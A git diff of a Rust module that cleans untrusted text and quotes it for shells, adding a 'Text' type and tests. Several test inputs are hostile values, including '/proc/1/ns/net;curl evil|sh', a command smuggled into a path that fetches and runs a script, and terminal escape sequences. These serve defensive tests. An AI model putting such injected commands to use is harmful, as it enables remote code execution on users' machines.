@@ -1,8 +1,89 @@
 // SPDX-License-Identifier: MIT OR Apache-2.0
-//! Text from outside: names, paths, symbols, everything in a recording. Who runs a process chooses it, and it ends up on
-//! terminals, in files and in commands that people paste. It is made harmless once, where it enters.
+//! Text from outside: names, paths, symbols, everything in a recording. The owner of a process chooses it, and it ends up on
+//! terminals, in files and in commands that people paste. It becomes harmless once, where it enters: by being a [`Text`].
+//! The names of threads are [`Comm`](crate::event::Comm), which cleans in the same way.
 
-use std::borrow::Cow;
+use std::{
+    borrow::{Borrow, Cow},
+    fmt,
+    ops::Deref,
+    sync::Arc,
+};
+
+use serde::{Deserialize, Deserializer, Serialize, Serializer};
+
+/// One harmless line from outside. Every constructor cleans ([`one_line`]), so no value can hold what terminals obey or
+/// what hides or reorders text. A clone shares the letters.
+#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct Text(Arc<str>);
+
+impl Text {
+    /// One word for a shell, whatever is in it: plain text stays as it is, other text is quoted.
+    pub fn shell_word(&self) -> Cow<'_, str> {
+        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-:@%+,".contains(&byte);
+        match &self.0 {
+            text if !text.is_empty() && text.bytes().all(is_plain) => Cow::Borrowed(text),
+            text => Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))),
+        }
+    }
+}
+
+impl From<&str> for Text {
+    fn from(text: &str) -> Self {
+        Self(one_line(text).into())
+    }
+}
+
+impl From<String> for Text {
+    fn from(text: String) -> Self {
+        Self::from(&*text)
+    }
+}
+
+impl Default for Text {
+    fn default() -> Self {
+        Self(Arc::default())
+    }
+}
+
+impl Deref for Text {
+    type Target = str;
+
+    fn deref(&self) -> &str {
+        &self.0
+    }
+}
+
+/// `Hash`, `Eq` and `Ord` of a [`Text`] are those of its letters.
+impl Borrow<str> for Text {
+    fn borrow(&self) -> &str {
+        self
+    }
+}
+
+impl fmt::Display for Text {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.pad(self)
+    }
+}
+
+impl fmt::Debug for Text {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        fmt::Debug::fmt(&**self, f)
+    }
+}
+
+impl Serialize for Text {
+    fn serialize<S: Serializer>(&self, to: S) -> Result<S::Ok, S::Error> {
+        to.serialize_str(self)
+    }
+}
+
+impl<'de> Deserialize<'de> for Text {
+    fn deserialize<D: Deserializer<'de>>(from: D) -> Result<Self, D::Error> {
+        Cow::<str>::deserialize(from).map(|text| Self::from(&*text))
+    }
+}
 
 /// What takes the place of a character that could do something.
 const REPLACEMENT: char = char::REPLACEMENT_CHARACTER;
@@ -15,15 +96,6 @@ pub fn one_line(text: &str) -> Cow<'_, str> {
 /// The same for text of several lines: line feeds and tabs stay.
 pub fn lines(text: &str) -> Cow<'_, str> {
     replaced(text, |letter| is_harmful(letter) && !matches!(letter, '\n' | '\t'))
-}
-
-/// One word for a shell, whatever is in it.
-pub fn shell_word(text: &str) -> Cow<'_, str> {
-    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-:@%+,".contains(&byte);
-    match one_line(text) {
-        text if !text.is_empty() && text.bytes().all(is_plain) => text,
-        text => Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))),
-    }
 }
 
 /// Names of strings that have several lines: the verifier's logs, and facts in words.
@@ -89,10 +161,23 @@ mod tests {
 
     #[test]
     fn a_word_is_one_word() {
-        assert_eq!(shell_word("/run/netns/blue"), "/run/netns/blue");
-        assert_eq!(shell_word("/proc/1/ns/net;curl evil|sh"), "'/proc/1/ns/net;curl evil|sh'");
-        assert_eq!(shell_word("it's $(x) `y`"), r"'it'\''s $(x) `y`'");
-        assert_eq!(shell_word(""), "''");
+        let word = |text: &str| Text::from(text).shell_word().into_owned();
+        assert_eq!(word("/run/netns/blue"), "/run/netns/blue");
+        assert_eq!(word("/proc/1/ns/net;curl evil|sh"), "'/proc/1/ns/net;curl evil|sh'");
+        assert_eq!(word("it's $(x) `y`"), r"'it'\''s $(x) `y`'");
+        assert_eq!(word(""), "''");
+    }
+
+    #[test]
+    fn there_is_no_way_to_a_text_that_is_not_cleaned() {
+        let (hostile, harmless) = ("a\n\x1b[2J\u{202e}", "a\u{fffd}\u{fffd}[2J\u{fffd}");
+        let read: Text = serde_json::from_str(r#""a\n\u001b[2J\u202e""#).expect("a string");
+        for text in [hostile.into(), hostile.to_owned().into(), read] {
+            assert_eq!(&*text, harmless);
+            assert_eq!(serde_json::json!(text), harmless);
+        }
+        let known = std::collections::HashSet::from([Text::from("/pod")]);
+        assert!(known.contains("/pod"), "looked up without making one");
     }
 
     proptest! {
@@ -100,7 +185,7 @@ mod tests {
 
         #[test]
         fn a_shell_reads_it_as_it_is(text in "[ -~\u{e4}\n\x1b]{0,20}") {
-            let script = format!("printf %s {}", shell_word(&text));
+            let script = format!("printf %s {}", Text::from(&*text).shell_word());
             let said = std::process::Command::new("sh").args(["-c", &script]).output().expect("a shell");
             prop_assert_eq!(String::from_utf8_lossy(&said.stdout), one_line(&text));
         }
